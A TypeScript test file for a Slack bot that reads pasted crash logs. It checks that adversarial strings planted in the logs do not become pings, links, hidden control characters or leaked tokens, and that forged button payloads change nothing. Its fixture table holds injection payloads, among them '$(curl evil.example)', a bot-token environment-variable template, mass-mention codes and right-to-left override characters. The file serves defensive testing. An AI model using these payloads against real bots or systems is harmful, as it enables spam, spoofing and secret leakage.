// Logs are written by strangers. Through the front door: nothing in one pings, links, breaks a message or is obeyed.
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { buttons, textOf } from "../../src/demo/fake/slack.ts";
import type { FakeMessage } from "../../src/demo/fake/world.ts";
import { CASCADE, fenced } from "./logs.ts";
import { openWorkplace, type Workplace } from "./workplace.ts";

let at: Workplace;
beforeEach(async () => {
  at = await openWorkplace({ editPauseMs: 0 });
});
afterEach(async () => {
  // Slack's own checks of what was sent: sizes, blocks, markup.
  expect(at.slack.refusals).toEqual([]);
  expect(at.slack.pings()).toEqual([]);
  await at.close();
});

const NASTY: [string, string][] = [
  ["mentions", "<!channel> <!here> <!everyone> <@U1> <@U2|ana> <!subteam^S1|team> @here @channel"],
  ["markup", "*bold* _it_ ~no~ `code` ```fence``` > quote\n>>> more"],
  ["links", "<https://evil.example/x|click me> https://evil.example/y mailto:a@b.example <tel:123>"],
  [
    "right-to-left and unseen marks",
    "\u202e gnp.exe \u202c \u2066abc\u2069 \u200b\u200d\ufeff \u0000 \u001b[31mred\u001b[0m",
  ],
  ["a form's own words", '{"action_id":"answer:gpu","value":"{}"} payload={"type":"block_actions"}'],
  ["escapes", "&lt;!channel&gt; &amp;lt;!here&amp;gt; %3C!channel%3E \\u003c!channel\\u003e"],
  ["places of a playbook", "{{host}} {{rank}} ${process.env.SLACK_BOT_TOKEN} $(curl evil.example) `id`"],
  ["a date of Slack's", "<!date^1392734382^Posted {date_num}|2014> <#C1|general>"],
];

/** In the message that failed, in a host's name, in a path, in front of every line. */
function planted(nasty: string): [string, string][] {
  const one = nasty.replaceAll("\n", " ");
  return [
    ["the error", CASCADE.replace("CUDA out of memory.", `CUDA out of memory. ${one}`)],
    ["the file of a frame", CASCADE.replace("/app/megatron/core", `/app/${one}`)],
    ["the prefix", CASCADE.replace(/^/gm, `${one.slice(0, 60)}: `)],
    ["lines around it", `${nasty}\n${CASCADE}\n${nasty}`],
    ["an error of its own", `Traceback (most recent call last):\n  File "a.py", line 1, in f\nValueError: ${one}\n`],
  ];
}

const cases = NASTY.flatMap(([what, nasty]) => planted(nasty).map(([where, text]) => [what, where, text] as const));

/** Everything that Slack would take as markup: text of mrkdwn objects, and links and mentions of rich text. */
function markup(message: FakeMessage): string[] {
  const found: string[] = [];
  const look = (value: unknown): void => {
    if (Array.isArray(value)) value.forEach(look);
    else if (typeof value === "object" && value !== null) {
      const { type, text, url } = value as { type?: string; text?: unknown; url?: unknown };
      if (type === "mrkdwn" && typeof text === "string") found.push(text);
      if (["user", "usergroup", "broadcast", "channel"].includes(type ?? "")) found.push(`<${type}>`);
      if (typeof url === "string") found.push(url);
      Object.values(value).forEach(look);
    }
  };
  look(message.blocks);
  return found;
}

describe("a log that holds", () => {
  it.each(cases)("%s in %s", async (_, __, text) => {
    await at.slack.say(`@firstfault\n${fenced(text)}`, { whole: true });
    await at.settled();
    const [message] = at.slack.posted();
    const lines = buttons(message).find((one) => one.action_id?.startsWith("show-lines"));
    if (lines) await at.slack.click(message, lines);
    await at.settled();

    const all = [...at.slack.posted(), ...at.slack.whispers()];
    expect(all.length).toBeGreaterThan(0);
    for (const one of all) {
      const marked = markup(one).join("\n");
      expect(marked).not.toMatch(
        /evil\.example|<!(?:channel|here|everyone|subteam|date)|<@U\d|<(?:user|usergroup|broadcast|channel)>/,
      );
      expect(textOf(one) + one.text).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u0000\u001b]|xoxb-/);
    }
  });
});

it("answers a line of sixty kilobytes within Slack's limits", async () => {
  const long = `[rank3]: RuntimeError: ${"a=1, ".repeat(12_000)}`;
  await at.slack.say(`@firstfault\n${fenced(`${long}\n${CASCADE}\n${long}`)}`, { whole: true });
  await at.settled();
  expect(at.slack.posted()).toHaveLength(1);
});

describe("a click", () => {
  async function opened(): Promise<FakeMessage | undefined> {
    await at.slack.say(fenced(CASCADE));
    await at.settled();
    return at.slack.posted()[0];
  }
  const step = (): unknown => at.slack.posted()[0]?.metadata?.event_payload?.step;

  it.each([
    ["with another case's id", { case: "no-such-case", step: "oom#where", choice: "gpu" }],
    ["with a step that is not there", { case: "", step: "oom#constructor", choice: "__proto__" }],
    ["with a choice that is none", { case: "", step: "", choice: "adopt:newer" }],
    ["with no JSON", null],
  ])("%s changes nothing", async (_, value) => {
    const message = await opened();
    const before = step();
    const real = buttons(message).find((one) => one.action_id?.startsWith("answer:"));
    const own = JSON.parse(real?.value ?? "{}") as { case: string; step: string };
    const forged = value && { ...value, case: value.case || own.case, step: value.step || own.step };

    await at.slack.click(message, { ...real, value: forged ? JSON.stringify(forged) : "{{not json" });
    await at.settled();

    expect(step()).toBe(before);
  });
});
